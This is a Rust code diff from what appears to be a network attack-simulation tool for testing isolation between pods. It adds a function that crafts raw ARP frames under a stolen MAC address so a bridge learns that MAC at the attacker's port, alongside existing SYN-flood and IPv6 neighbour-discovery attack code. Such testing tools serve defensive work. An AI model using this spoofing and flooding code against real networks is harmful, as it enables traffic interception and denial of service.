@@ -7,6 +7,7 @@ use rand::Rng as _;
 use socket2::{Domain, Protocol, Socket, Type};
 
 use super::attack::Strike;
+use crate::raw_frames::RawFrames;
 
 /// Packets per second of the SYN flood.
 const SYN_RATE: u32 = 100_000;
@@ -73,6 +74,28 @@ pub(super) fn neighbours(strike: &Strike, own: Ipv6Addr, rate: u32) -> Result<()
         message.extend(target.octets());
         message.extend([if kind == 135 { 1 } else { 2 }, 1, 2, 0, 0, 0, 0, 1]);
         let _ = socket.send_to(&message, &SocketAddr::new(router.into(), 0).into());
+        Ok(())
+    })
+}
+
+/// Sends ARP requests of pod A under the MAC `stolen`, so that the bridge learns that MAC at A's port.
+pub(super) fn stolen_mac(
+    strike: &Strike,
+    frames: &RawFrames,
+    own: Ipv4Addr,
+    stolen: [u8; 6],
+    rate: u32,
+) -> Result<()> {
+    let mut frame = vec![0xff; 6];
+    frame.extend(stolen);
+    frame.extend([8, 6, 0, 1, 8, 0, 6, 4, 0, 1]);
+    frame.extend(frames.mac());
+    frame.extend(own.octets());
+    frame.extend([0; 6]);
+    frame.extend([own.octets()[0], own.octets()[1], own.octets()[2], 1]);
+    strike.paced(rate, || {
+        // A full send queue affects only the attacker.
+        let _ = frames.send(&frame);
         Ok(())
     })
 }
